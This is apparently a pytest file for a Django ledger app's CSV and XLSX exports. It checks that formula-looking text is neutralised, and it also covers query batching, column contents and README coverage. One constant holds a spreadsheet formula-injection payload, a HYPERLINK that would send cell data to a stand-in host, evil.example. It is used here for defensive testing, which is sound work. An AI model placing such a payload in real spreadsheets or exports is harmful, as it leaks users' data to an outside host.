"""The 台账 exports never hand a spreadsheet a formula: a text starting with =, +, -, @ (or tab/CR) is
written behind an apostrophe in CSV and as a typed string cell in the workbook, from the API and the admin."""

import datetime as dt
import io
import re
import zipfile

import openpyxl
import pytest
from django.urls import reverse
from rest_framework.test import APIClient

from ledger.exports import neutralised
from ledger.models import Commitment, Status

pytestmark = pytest.mark.django_db

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"点击")'


@pytest.fixture
def hostile(seed_ledger):
    """Two commitments of the seed report whose text and part a spreadsheet would run."""
    first, second = seed_ledger.commitments.filter(testable=True).order_by("start")[:2]
    Commitment.objects.filter(pk=first.pk).update(action="", text=HOSTILE, object=HOSTILE, part="+1+2", part_heading="")
    Commitment.objects.filter(pk=second.pk).update(action="", text="@SUM(1,2)", object="SUM", part="-3", part_heading="")
    return seed_ledger


@pytest.fixture
def staff(django_user_model):
    user = django_user_model.objects.create_superuser("boss", password="pw")
    return user


def _content(response):
    assert response.status_code == 200, response.content
    return b"".join(response.streaming_content) if response.streaming else response.content


def _check_csv(content: bytes):
    text = content.decode("utf-8-sig")
    assert f"'{HOSTILE}".replace('"', '""') in text
    assert "'@SUM(1,2)" in text and "'+1+2" in text and "'-3" in text
    lines = text.splitlines()[1:]
    # no cell of any row starts with a formula character
    import csv

    for row in csv.reader(lines):
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row), row


def _check_xlsx(content: bytes):
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    cells = {cell.value: cell for row in sheet.iter_rows(min_row=2) for cell in row}
    for value in (HOSTILE, "@SUM(1,2)", "+1+2", "-3"):
        assert cells[value].data_type == "s", value


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_api_export_writes_no_formula(hostile, staff, fmt):
    client = APIClient()
    client.force_authenticate(staff)
    content = _content(client.get(f"/api/v1/commitments/export/{fmt}/", {"report": hostile.pk}))
    (_check_csv if fmt == "csv" else _check_xlsx)(content)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_admin_export_writes_no_formula(hostile, staff, client, fmt):
    client.force_login(staff)
    content = _content(client.get(reverse("admin:ledger_commitment_export", args=[fmt]), {"report": hostile.pk}))
    (_check_csv if fmt == "csv" else _check_xlsx)(content)


@pytest.mark.parametrize(
    ("value", "expected"),
    [("=1+1", "'=1+1"), ("+86", "'+86"), ("-1", "'-1"), ("@A1", "'@A1"), ("\tx", "'\tx"), ("\rx", "'\rx"),
     ("制定条例", "制定条例"), (3, 3), ("", "")],
)
def test_neutralised(value, expected):
    assert neutralised(value) == expected


def test_the_ledger_rows_of_a_batch_carry_units_progress_and_who_decided(seed_ledger, boss, monkeypatch):
    """Batches of three commitments: each batch's evidence, progress and partner units come in one query each
    (whatever the rows), and every row still has its own: partners sorted, progress newest first, the decisive
    passage, and who decided last."""
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    from ledger import exports
    from ledger.services.decisions import commitment_set_status
    from ledger.services.ledger import commitment_ledger_update, progress_add

    first = seed_ledger.commitments.filter(testable=True).order_by("ordinal").first()
    commitment_ledger_update(commitment=first, user=boss, lead_unit="区教委", partner_units=["区财政局", "区人社局"])
    progress_add(commitment=first, user=boss, date=dt.date(2025, 3, 1), text="已完成调研")
    progress_add(commitment=first, user=boss, date=dt.date(2025, 6, 1), text="已印发方案")
    commitment_set_status(commitment=first, status="fulfilled", user=boss, note="")
    monkeypatch.setattr(exports, "_BATCH", 3)
    queryset = Commitment.objects.filter(report=seed_ledger)
    with CaptureQueriesContext(connection) as queries:
        rows = list(exports.ledger_rows(queryset))
    batches = -(-len(rows) // 3)
    assert len(rows) == queryset.count() and len(queries) == 1 + 3 * batches
    cells = [dict(zip(exports.COLUMN_KEYS, row)) for row in rows]
    row = next(row for row in cells if row["id"] == first.pk)
    assert (row["body"], row["year"]) == (seed_ledger.body.name, first.plan_year)
    assert row["lead_unit"] == "区教委"
    assert row["partner_units"] == exports.UNIT_SEPARATOR.join(["区财政局", "区人社局"])  # in the order written
    assert row["progress"] == exports.PROGRESS_SEPARATOR.join(["2025-06-01 已印发方案", "2025-03-01 已完成调研"])
    assert row["verified_by"] == boss.username and row["verified_at"]
    assert row["decided_by"] == "人工确认"
    machine = {c.pk for c in queryset.filter(testable=True, status_origin="auto").exclude(status="pending")}
    assert machine and all(r["decided_by"] == "机器初判" for r in cells if r["id"] in machine)
    assert any(r["evidence"] for r in cells)  # the decisive passage's text, where the machine found one
    # A general sentence says so beside its status, and that no rate counts it; once its review is in, that the
    # machine does not judge it (待回顾 said it waited for something).
    untestable = {c.pk: c.status_rule for c in queryset.filter(testable=False)}
    assert untestable and all(
        r["status"] == ("不判定（一般性部署）" if untestable[r["id"]] == "status.not_judged" else "待回顾（不计入）")
        and r["decided_by"] == "一般性部署，不计入"
        for r in cells if r["id"] in untestable
    )
    assert "status.not_judged" in untestable.values()
    # One a person gave a status: said to be a person's word, still not counted.
    general = queryset.filter(testable=False).first()
    commitment_set_status(commitment=general, status="fulfilled", user=boss)
    (row,) = [dict(zip(exports.COLUMN_KEYS, r)) for r in exports.ledger_rows(Commitment.objects.filter(pk=general.pk))]
    assert row["decided_by"] == "人工确认（一般性部署，不计入）" and row["status"] == "已落实（不计入）"


def test_an_xlsx_export_drops_control_characters_it_cannot_hold(seed_ledger, boss):
    """A progress note with a control character (pasted, or sent over the API) is exported without it, not
    answered with a server error."""
    from ledger.services.ledger import progress_add

    first = seed_ledger.commitments.filter(testable=True).order_by("ordinal").first()
    progress_add(commitment=first, user=boss, date=dt.date(2025, 3, 1), text="已完成\x1b调研\x07")
    client = APIClient()
    client.force_authenticate(boss)
    response = client.get("/api/v1/commitments/export/xlsx/", {"report": seed_ledger.pk})
    assert response.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    assert "2025-03-01 已完成调研" in [cell.value for row in sheet.iter_rows(min_row=3) for cell in row]


def test_the_task_column_reads_on_its_own(seed_ledger):
    """An item of a list is written whole in 工作任务, led by the list's verb (计划执行 → 听取审议计划执行报告), a bare
    act with what it is on; a row whose words hold its object and its verb is written as the report has it."""
    from ledger import exports

    rows = {row[0]: dict(zip(exports.COLUMN_KEYS, row)) for row in exports.ledger_rows(Commitment.objects.all())}
    by_text = {}
    for commitment in Commitment.objects.filter(testable=True):
        by_text.setdefault(commitment.text, commitment)
    plan = by_text["计划执行"]
    assert rows[plan.pk]["task"] == plan.action + plan.object == "听取审议计划执行报告"
    visit = Commitment.objects.filter(testable=True, text="视察").first()
    assert rows[visit.pk]["task"] == f"视察（{visit.object}）"
    # An item of a list whose deliverable the list names after it: 开展养老服务、城市更新等立法调研.
    research = Commitment.objects.filter(testable=True, kind="leg_research", text="养老服务").first()
    assert rows[research.pk]["task"] == "养老服务立法调研"
    whole = next(
        c for c in Commitment.objects.filter(testable=True, text__contains="条例").exclude(text__in=["计划执行", "视察"])
        if c.object in c.text and c.action in c.text
    )
    assert rows[whole.pk]["task"] == whole.text


def test_the_sheet_names_who_decided_a_status_as_the_task_page_does(seed_ledger, django_user_model):
    """The page named the person who confirmed the decisive passage; the sheet named the last decision on any passage,
    by user name."""
    from ledger import exports, services
    from ledger.models import Decision, Evidence

    wang = django_user_model.objects.create_user("wangli", first_name="丽", last_name="王")
    li = django_user_model.objects.create_user("lihua", first_name="华", last_name="李")
    best = Evidence.objects.filter(commitment__report=seed_ledger, commitment__testable=True, verdict="fulfilled").first()
    services.evidence_decide(evidence=best, decision=Decision.CONFIRMED, user=wang)
    other = best.commitment.evidence.exclude(pk=best.pk).exclude(verdict="candidate").first()
    if other is not None:
        services.evidence_decide(evidence=other, decision=Decision.CONFIRMED, user=li)
    (row,) = exports.ledger_rows(Commitment.objects.filter(pk=best.commitment_id))
    named = dict(zip(exports.COLUMN_KEYS, row))
    assert named["verified_by"] == "王丽" and named["decided_by"] == "人工确认"


def test_every_column_of_the_analysis_export_is_explained_in_the_readme():
    """A researcher found the columns' meanings and codes only in scattered prose."""
    from pathlib import Path

    from django.conf import settings

    from ledger.data_export import COLUMNS

    readme = (Path(settings.BASE_DIR) / "README.md").read_text(encoding="utf-8")
    section = readme.split("### The analysis export's columns")[1].split("\n## ")[0]
    named = re.findall(r"`([a-z_0-9]+)`", "\n".join(line.split(" | ")[0] for line in section.splitlines() if line.startswith("| `")))
    # "in this order": a program reading the columns by place found confirmed 7 places from where it was said to be.
    assert named == list(COLUMNS), (set(COLUMNS) - set(named), set(named) - set(COLUMNS))


def test_every_status_rule_the_code_gives_is_explained_in_the_readme():
    """status.over_years, which 9 of a year's rows carry, was in the schema and not in the README's list."""
    from pathlib import Path

    from django.conf import settings

    base = Path(settings.BASE_DIR)
    rules = {
        rule for path in (base / "ledger").rglob("*.py") if "migrations" not in path.parts
        for rule in re.findall(r'"(status\.[a-z_]+)"', path.read_text(encoding="utf-8"))
    }
    readme = (base / "README.md").read_text(encoding="utf-8")
    assert len(rules) > 8 and not {rule for rule in rules if f"`{rule}`" not in readme}


def test_the_time_a_row_was_verified_is_a_date_cell_in_the_workbook_and_minutes_in_the_csv(seed_ledger, boss):
    """It was text in the workbook: it did not sort or filter as a date."""
    from django.utils import timezone

    from ledger import exports
    from ledger.services.decisions import commitment_set_status

    first = Commitment.objects.filter(report=seed_ledger, testable=True).order_by("ordinal").first()
    commitment_set_status(commitment=first, status="fulfilled", user=boss, note="")
    queryset = Commitment.objects.filter(pk=first.pk)
    _title, data, _n = exports.write(queryset, "xlsx")
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    column = exports.COLUMN_KEYS.index("verified_at") + 1
    cell = sheet.cell(exports.HEADER_ROW + 1, column)
    assert isinstance(cell.value, dt.datetime) and cell.number_format == "yyyy-mm-dd hh:mm"
    # Every body cell wraps its text, top-aligned, in a thin frame (one style copied to each, not set cell by cell).
    for other in (cell, sheet.cell(exports.HEADER_ROW + 1, 1), sheet.cell(exports.HEADER_ROW + 1, column - 1)):
        assert other.alignment.wrap_text and other.alignment.vertical == "top" and other.border.left.style == "thin"
    assert sheet.cell(exports.HEADER_ROW + 1, 1).number_format == "General"
    # The 状态 column offers the statuses as a drop-down (未完成 failed only at the upload), a word of its own still taken;
    # the review of the task's year is in, so not 推进中 or 待回顾, which the import refuses such a task.
    (choices,) = sheet.data_validations.dataValidation
    status = openpyxl.utils.get_column_letter(exports.COLUMN_KEYS.index("status") + 1)
    assert str(choices.sqref) == f"{status}{exports.HEADER_ROW + 1}" and not choices.showErrorMessage
    offered = choices.formula1.strip('"').split(",")
    assert offered == [str(label) for value, label in Status.choices if value not in ("pending", "in_progress")]
    assert cell.value == timezone.localtime(Commitment.objects.get(pk=first.pk).status_decided_at).replace(
        tzinfo=None, second=0, microsecond=0
    )
    _title, data, _n = exports.write(queryset, "csv")
    import csv

    row = list(csv.reader(data.decode("utf-8-sig").splitlines()))[exports.HEADER_ROW]
    assert row[column - 1] == f"{cell.value:%Y-%m-%d %H:%M}"
